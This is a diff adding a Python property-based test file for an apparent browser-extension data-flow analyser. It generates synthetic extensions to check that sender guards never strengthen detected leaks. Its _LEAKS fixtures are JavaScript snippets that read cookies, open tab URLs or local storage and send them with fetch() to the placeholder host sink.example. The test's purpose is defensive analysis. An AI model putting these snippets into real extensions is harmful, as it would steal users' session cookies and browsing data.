@@ -1,0 +1,134 @@
+"""Property-based tests over generated message-passing extensions.
+
+The generator builds random-but-well-formed extensions: a background
+handler that leaks privileged data (cookies/tabs/storage) to a network
+sink, and a random topology of content scripts relaying messages. The
+property is the paper's conditional-flow monotonicity: inserting a
+sender guard in front of the leak can only *weaken* (or preserve) every
+flow's type — never strengthen one, and never invent a new flow.
+"""
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from repro.api import vet
+from repro.signatures.flowtypes import DEFAULT_LATTICE
+from repro.webext.loader import ExtensionBundle
+
+pytestmark = pytest.mark.webext
+
+_SETTINGS = settings(
+    max_examples=25,
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow],
+)
+
+#: Privileged reads the generated handler can leak, by permission name.
+_LEAKS = {
+    "cookies": (
+        "chrome.cookies.getAll({domain: m.d}, function (data) {"
+        " fetch('https://sink.example/x?v=' + data[0].value + '&m=' + m.tag);"
+        " });"
+    ),
+    "tabs": (
+        "chrome.tabs.query({}, function (data) {"
+        " fetch('https://sink.example/x?v=' + data[0].url + '&m=' + m.tag);"
+        " });"
+    ),
+    "storage": (
+        "chrome.storage.local.get('k', function (data) {"
+        " fetch('https://sink.example/x?v=' + data.k + '&m=' + m.tag);"
+        " });"
+    ),
+}
+
+_GUARDS = (
+    "sender.url === 'https://app.example/'",
+    "sender.origin === 'https://app.example'",
+    "sender.id === 'expected-extension-id'",
+    "sender.url.startsWith('https://app.example/')",
+)
+
+_SENDERS = (
+    "chrome.runtime.sendMessage({d: document.location.hostname, tag: 'a'});",
+    "chrome.runtime.sendMessage({d: 'fixed', tag: document.location.href});",
+    "chrome.runtime.sendMessage('ping');",
+    "var quiet = 1;",
+)
+
+
+@st.composite
+def extension_pairs(draw):
+    """(unguarded bundle, guarded bundle): identical but for the guard."""
+    leak_kind = draw(st.sampled_from(sorted(_LEAKS)))
+    guard = draw(st.sampled_from(_GUARDS))
+    event = draw(st.sampled_from(["onMessage", "onMessageExternal"]))
+    content_sources = draw(
+        st.lists(st.sampled_from(_SENDERS), min_size=1, max_size=3)
+    )
+    leak = _LEAKS[leak_kind]
+
+    def background(guarded: bool) -> str:
+        body = f"if ({guard}) {{ {leak} }}" if guarded else leak
+        return (
+            f"chrome.runtime.{event}.addListener("
+            f"function (m, sender, r) {{ {body} }});"
+        )
+
+    content_entries = [
+        {"matches": ["<all_urls>"], "js": [f"c{i}.js"]}
+        for i in range(len(content_sources))
+    ]
+    import json
+
+    manifest = json.dumps({
+        "name": "generated",
+        "manifest_version": 3,
+        "permissions": [leak_kind],
+        "background": {"service_worker": "bg.js"},
+        "content_scripts": content_entries,
+    })
+
+    def bundle(guarded: bool) -> ExtensionBundle:
+        files = [("bg.js", background(guarded))]
+        files.extend(
+            (f"c{i}.js", source) for i, source in enumerate(content_sources)
+        )
+        return ExtensionBundle(
+            name="generated", manifest_text=manifest, files=tuple(sorted(files))
+        )
+
+    return bundle(False), bundle(True)
+
+
+def flow_types(report):
+    return {
+        (e.source, e.sink, e.domain): e.flow_type
+        for e in report.signature.flows
+    }
+
+
+class TestGuardMonotonicity:
+    @_SETTINGS
+    @given(extension_pairs())
+    def test_guard_insertion_never_strengthens_a_flow(self, pair):
+        unguarded_bundle, guarded_bundle = pair
+        unguarded = flow_types(vet(unguarded_bundle.to_text()))
+        guarded = flow_types(vet(guarded_bundle.to_text()))
+        # No new flows appear, and every surviving flow is no stronger.
+        assert set(guarded) <= set(unguarded)
+        for key, guarded_type in guarded.items():
+            assert DEFAULT_LATTICE.stronger_or_equal(
+                unguarded[key], guarded_type
+            ), (key, unguarded[key], guarded_type)
+
+    @_SETTINGS
+    @given(extension_pairs())
+    def test_generated_extensions_analyze_cleanly(self, pair):
+        for bundle in pair:
+            report = vet(bundle.to_text())
+            assert not report.degraded
+            # The leak must be visible in the unguarded variant at least
+            # as an API/flow mention of the sink.
+            assert report.counters["components"] >= 2
